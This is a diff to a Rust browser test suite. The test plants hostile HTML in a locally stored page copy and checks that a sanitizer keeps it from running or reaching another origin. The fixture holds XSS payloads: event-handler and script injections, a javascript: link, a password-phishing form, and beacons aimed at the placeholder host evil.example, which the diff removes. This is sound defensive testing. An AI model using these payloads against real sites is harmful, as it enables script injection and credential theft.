@@ -15,7 +15,7 @@ const COPY: &str = "cloudlink.home";
 /// Local storage with a copy of Home, as a person who linked an account and
 /// then closed the tab leaves it; and checks that signing out afterwards
 /// removes the copy.
-async fn storage_with_a_copy() -> Vec<(String, String)> {
+pub(crate) async fn storage_with_a_copy() -> Vec<(String, String)> {
     let server = StaticServer::start(&dist_dir(), ServerOptions::default());
     let page = Page::open(&server, "/").await;
     page.create_account(EMAIL).await;
@@ -178,23 +178,31 @@ async fn a_signed_in_person_sees_home_before_the_wasm_and_the_app_takes_over() {
 }
 
 /// Markup any script on the origin could have written into the copy, with
-/// the session, revision and day that make it shown.
+/// the session, revision and day that make it shown; `OTHER` stands for a
+/// site on another origin.
 const PLANTED: &str = r##"
 <img id="handler" src="logo.svg" onerror="window.pwned = 'img'" onload="window.pwned = 'img'">
 <script>window.pwned = 'script'</script>
 <a id="scheme" href="javascript:window.pwned = 'link'">Open</a>
 <svg><animate onbegin="window.pwned = 'svg'" attributeName="x" dur="1s"></animate></svg>
-<iframe src="https://evil.example/"></iframe>
-<form id="phish" action="https://evil.example/"><input id="steal" name="password"></form>
-<div id="styled" style="background: url(https://evil.example/x.png)">Styled</div>
-<img id="beacon" src="https://evil.example/b.png">
+<iframe src="OTHER/frame"></iframe>
+<form id="phish" action="OTHER/form"><input id="steal" name="password"></form>
+<div id="styled" style="background: url(OTHER/style.png)">Styled</div>
+<img id="beacon" src="OTHER/b.png">
+<svg width="20" height="20"><path id="painted" d="M0 0h20v20H0z" fill="url(OTHER/fill.svg#g)" stroke="url(OTHER/stroke.svg#g)" stroke-width="4"></path></svg>
 <h1 id="planted-heading">Planted</h1>
 "##;
 
 #[tokio::test]
 async fn markup_planted_in_the_copy_runs_nothing_and_reaches_nothing() {
+    // Another origin (another port), which counts what reaches it.
+    let other = StaticServer::start(&crate::support::temp_dir("other"), ServerOptions::default());
     let stored = storage_with_a_copy().await;
-    let planted = changed(&stored, |k| k == COPY, |v| v["html"] = json!(PLANTED));
+    let planted = changed(
+        &stored,
+        |k| k == COPY,
+        |v| v["html"] = json!(PLANTED.replace("OTHER", &other.origin)),
+    );
     let gate = Gate::closed();
     // No Content-Security-Policy: a host that does not send one.
     let server = serve_gated(&gate);
@@ -208,9 +216,14 @@ async fn markup_planted_in_the_copy_runs_nothing_and_reaches_nothing() {
     )
     .await;
     tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
+    assert_eq!(
+        other.requests(),
+        Vec::<String>::new(),
+        "planted markup reached another origin"
+    );
     let seen = c
         .execute(
-            "const r = document.querySelector('#prerender');              const attrs = (sel) => { const e = r.querySelector(sel); return e ? e.getAttributeNames().sort().join(',') : 'gone'; };              return { pwned: window.pwned || null,                handler: attrs('#handler'), scheme: attrs('#scheme'), styled: attrs('#styled'), beacon: attrs('#beacon'),                kinds: [...new Set([...r.querySelectorAll('*')].map(e => e.localName))].sort().join(','),                evil: performance.getEntriesByType('resource').filter(e => e.name.includes('evil.example')).length };",
+            "const r = document.querySelector('#prerender');              const attrs = (sel) => { const e = r.querySelector(sel); return e ? e.getAttributeNames().sort().join(',') : 'gone'; };              return { pwned: window.pwned || null,                handler: attrs('#handler'), scheme: attrs('#scheme'), styled: attrs('#styled'), beacon: attrs('#beacon'), painted: attrs('#painted'),                kinds: [...new Set([...r.querySelectorAll('*')].map(e => e.localName))].sort().join(',') };",
             vec![],
         )
         .await
@@ -223,10 +236,10 @@ async fn markup_planted_in_the_copy_runs_nothing_and_reaches_nothing() {
             "scheme": "id",
             "styled": "id",
             "beacon": "id",
-            "kinds": "a,div,h1,img,svg",
-            "evil": 0,
+            "painted": "d,id",
+            "kinds": "a,div,h1,img,path,svg",
         }),
-        "planted markup ran or reached another origin"
+        "planted markup ran, or kept what could reach another origin"
     );
     gate.open();
     browser.close().await;
